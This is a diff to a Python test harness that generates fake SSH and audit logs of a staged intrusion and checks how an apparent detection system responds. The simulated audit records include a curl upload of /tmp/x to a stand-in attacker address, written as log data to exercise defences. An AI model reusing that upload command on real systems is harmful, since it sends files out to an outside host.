@@ -39,9 +39,10 @@ def sshd(said, pid):
     return f'{stamp()} registry sshd[{pid}]: {said} for clerk from {ATTACKER} port {50000 + pid} ssh2\n'
 
 
-def audit(serial, kind, rest):
+def audit(serial, *records):
+    """The records of one audit event: they share their stamp."""
     at = f'{time.time():.3f}'
-    return f'node=registry type={kind} msg=audit({at}:{serial}): {rest}\n'
+    return ''.join(f'node=registry type={kind} msg=audit({at}:{serial}): {rest}\n' for kind, rest in records)
 
 
 SYSCALL = ('arch=c000003e syscall={0} success=yes exit=3 a0=ffffff9c items=1 ppid=900 pid=901 auid=3001 uid=3001 '
@@ -58,17 +59,17 @@ def step_success():
 
 
 def step_read():
-    append(AUDIT, audit(501, 'SYSCALL', SYSCALL.format(257, 'cat', 'tocsin-case', 'openat')) +
-           audit(501, 'CWD', 'cwd="/home/clerk"') +
-           audit(501, 'PATH', 'item=0 name="/srv/cases/AC-2026-014/witness-list.txt" inode=7 dev=fe:00 '
-                 'mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL\x1dOUID="root" OGID="root"') +
-           audit(501, 'EOE', ''))
+    append(AUDIT, audit(501, ('SYSCALL', SYSCALL.format(257, 'cat', 'tocsin-case', 'openat')),
+                        ('CWD', 'cwd="/home/clerk"'),
+                        ('PATH', 'item=0 name="/srv/cases/AC-2026-014/witness-list.txt" inode=7 dev=fe:00 '
+                         'mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL\x1dOUID="root" OGID="root"'),
+                        ('EOE', '')))
 
 
 def step_send():
-    append(AUDIT, audit(502, 'SYSCALL', SYSCALL.format(59, 'curl', 'tocsin-exec', 'execve')) +
-           audit(502, 'EXECVE', 'argc=4 a0="curl" a1="-T" a2="/tmp/x" a3="http://203.0.113.66:8080/1"') +
-           audit(502, 'EOE', ''))
+    append(AUDIT, audit(502, ('SYSCALL', SYSCALL.format(59, 'curl', 'tocsin-exec', 'execve')),
+                        ('EXECVE', 'argc=4 a0="curl" a1="-T" a2="/tmp/x" a3="http://203.0.113.66:8080/1"'),
+                        ('EOE', '')))
 
 
 STEPS = [step_failures, step_success, step_read, step_send]
@@ -139,7 +140,7 @@ class Run:
         expiry = run('getent', 'shadow', 'clerk').strip().split(':')
         return {
             'incidents': sorted(i['id'] for i in incidents),
-            'findings': sorted({f['id'] for s in shown for f in s['findings']}),
+            'findings': sorted(f['title'] for s in shown for f in s['findings']),
             'effects': sorted((e['asset'], e['kind'], e['status']) for s in shown for e in s['effects']),
             'actions': sorted((a['kind'], a.get('verdict'), a.get('outcome')) for a in actions),
             'blocked': ATTACKER in run('nft', 'list', 'ruleset'),
@@ -248,7 +249,11 @@ def main():
         print(f'{"ok" if good else "FAILED"}  {name}', flush=True)
         if not good:
             failed += 1
-            print(f'  got  {json.dumps(outcome)}\n  want {json.dumps(want)}\n  verify: {verify.stdout[-400:]}')
+            for key in want:
+                if not outcome or outcome[key] != want[key]:
+                    print(f'  {key}: got {outcome and outcome[key]}\n    want {want[key]}')
+            if verify.returncode != 0:
+                print(verify.stdout)
             if role is None:
                 break
     scene.end()
